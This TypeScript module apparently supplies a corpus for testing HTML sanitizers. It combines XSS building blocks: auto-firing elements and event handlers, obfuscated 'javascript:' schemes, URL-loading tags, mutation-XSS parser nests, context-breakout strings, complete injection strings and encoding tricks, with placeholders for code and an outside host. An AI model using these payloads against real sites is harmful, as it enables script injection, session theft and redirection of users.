/** What attacks on readers of markup are made of. `RUN` stands for a program, `AWAY` for an address that must never be asked. */

/** Elements that load, focus, move or open by themselves, or that the visitor meets. */
export const elements = [
  'img src=x', 'image src=x', 'svg', 'svg/', 'body', 'video src=x', 'audio src=x', 'video><source', 'input autofocus', 'select autofocus', 'textarea autofocus', 'button autofocus', 'details open', 'iframe src=about:blank',
  'object data=x', 'embed src=x', 'marquee', 'style', 'link rel=stylesheet href=x', 'script src=x', 'math', 'table background=x', 'a href=# tabindex=0 autofocus', 'x-unknown tabindex=0', 'dialog open', 'p style=animation:x', 'form', 'frameset', 'track src=x', 'meter',
];

export const events = ['onload', 'onerror', 'onfocus', 'onclick', 'ontoggle', 'onmouseover', 'onpointerenter', 'onanimationstart', 'onbegin', 'onstart', 'onpageshow', 'onbeforetoggle', 'onscrollsnapchange', 'oncontentvisibilityautostatechange', 'ONERROR', 'on\u0000error'];

/** What may stand between the name of an element and its attributes. */
export const separators = [' ', '/', '\n', '\t', '\f', ' /x="', "/'/"];

/** Ways to spell a scheme that runs. */
export const schemes = [
  'javascript:RUN', 'JaVaScRiPt:RUN', ' javascript:RUN', '\u0001javascript:RUN', '\u0000javascript:RUN', 'java\tscript:RUN', 'java\nscript:RUN', 'java\r\nscript:RUN', 'javascript\t:RUN', 'java&Tab;script&colon;RUN', '&#106;avascript:RUN', '&#x6A&#x61vascript:RUN',
  'javascript&#0000058RUN', 'javascript://%0aRUN', 'javascript:/*--></title></script>*/RUN', 'data:text/html,<script>RUN</script>', 'data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>', 'data:,RUN',
  'vbscript:RUN', 'blob:null/x', 'view-source:javascript:RUN', 'feed:javascript:RUN', 'about:srcdoc', 'filesystem:http://x/', '\u2028javascript:RUN', '\u00a0javascript:RUN', 'https:\\\\AWAY', '//AWAY', 'http://user:pass@AWAY', 'ftp://AWAY', 'file:///etc/passwd', 'ws://AWAY', 'javascript：RUN', 'jаvascript:RUN',
];

/** Where an address may stand. */
export const carriers = [
  '<a href="URL">x</a>', '<a href=URL>x</a>', '<a ping="URL" href="#">x</a>', '<map><area href="URL" shape=default></map>', '<iframe src="URL"></iframe>', '<iframe srcdoc="<a href=URL>"></iframe>', '<object data="URL"></object>', '<embed src="URL">', '<form action="URL"><button>x</button></form>',
  '<button formaction="URL">x</button>', '<svg><a xlink:href="URL"><text>x</text></a></svg>', '<svg><use href="URL#x"></use></svg>', '<svg><image href="URL"></image></svg>', '<svg><script href="URL"></script></svg>', '<svg><animate attributeName=href values="URL"></animate></svg>',
  '<svg><a><set attributeName=href to="URL"></set></a></svg>', '<math href="URL"><mtext>x</mtext></math>', '<link rel=stylesheet href="URL">', '<link rel=prefetch href="URL">', '<link rel=preload as=script href="URL">', '<base href="URL">', '<meta http-equiv=refresh content="0;url=URL">',
  '<video src="URL" poster="URL" autoplay></video>', '<audio src="URL" autoplay></audio>', '<input type=image src="URL">', '<img srcset="URL 1x, URL 2x">', '<picture><source srcset="URL"><img></picture>', '<body background="URL">', '<table background="URL"><td background="URL">x',
  '<p style="background:url(URL)">x</p>', '<style>@import "URL";</style>', '<style>*{background:url("URL")}</style>', '<blockquote cite="URL">x</blockquote>', '<script src="URL"></script>', '<script type=module src="URL"></script>', '<frameset><frame src="URL"></frameset>', '<portal src="URL"></portal>',
  '<a target=_top href="URL" autofocus>x</a>', '<track src="URL">', '<html manifest="URL">', '<applet code="URL"></applet>', '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["URL"]}]}</script>',
];

/** Nests in which a parser, or a second parser after it, takes for markup what the first took for text. */
export const nests = [
  'PLACE', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;PLACE">', '<form><math><mtext></form><form><mglyph><style></math>PLACE', '<svg></p><style><a id="</style>PLACE">', '<svg><style><img title="</style>PLACE">', '<noscript><p title="</noscript>PLACE">',
  '<noembed><p title="</noembed>PLACE">', '<noframes><p title="</noframes>PLACE">', '<xmp><p title="</xmp>PLACE">', '<textarea><p title="</textarea>PLACE">', '<title><p title="</title>PLACE">', '<iframe><p title="</iframe>PLACE">', '<template>PLACE</template>', '<select><template>PLACE</template></select>',
  '<select><option><style></option></select>PLACE</style>', '<div><template shadowrootmode=open>PLACE</template></div>', '<svg><foreignObject>PLACE</foreignObject></svg>', '<svg><desc>PLACE</desc></svg>', '<svg><title>PLACE</title></svg>', '<math><annotation-xml encoding="text/html">PLACE</annotation-xml></math>',
  '<math><mi>PLACE</mi></math>', '<table><tr>PLACE<td>x', '<a><a>PLACE</a></a>', '<!--><PLACE-->', '<!--x--!>PLACE-->', '<![CDATA[PLACE]]>', '<svg><![CDATA[></svg>PLACE]]>', '<?xml version="1.0"?>PLACE', '<!DOCTYPE x [<!ENTITY y "PLACE">]>&y;', '</p></div></article>PLACE', '</script></style></textarea></title>PLACE',
  '<p title="`PLACE`">', '<b <PLACE>', '<b x="" x="PLACE">', '<plaintext>PLACE', `${'<font>'.repeat(520)}PLACE`, '<svg><font color=x>PLACE', '<svg><p><style><g title="</style>PLACE">', '<isindex prompt="PLACE">', '<option><style></option></select><img title="</style>PLACE">',
];

/** What has to be broken out of. */
export const contexts = ['PLACE', '">PLACE', "'>PLACE", '"/>PLACE<x y="', ' PLACE ', ']]>PLACE<![CDATA[', '--><!---->PLACE', '</title>PLACE', '\\"PLACE', '${PLACE}', '{{PLACE}}', '`PLACE`', '%22%3EPLACE', '\u202ePLACE', '\ufeffPLACE', '" autofocus onfocus="RUN" x="', "' onclick='RUN'", 'javascript:RUN'];

/** Whole attacks, for nests and contexts. */
export const attacks = ['<img src=x onerror=RUN>', '<script>RUN</script>', '<svg/onload=RUN>', '<svg><script>RUN</script></svg>', '<iframe src="javascript:parent.RUN"></iframe>', '<a href="javascript:RUN">x</a>', '<img src=//AWAY>', '<style>@import "//AWAY";</style>', '<input autofocus onfocus=RUN>', '<details open ontoggle=RUN>x'];

/** Ways to write the same: what is decoded once too often comes to life. */
export const spellings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('&', '&amp;').replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (text) => text.replaceAll('<', '&#60').replaceAll('>', '&#x0000003e'),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replaceAll('<', '<\u0000').replaceAll('=', '\u000b='),
  (text) => text.toUpperCase(),
];
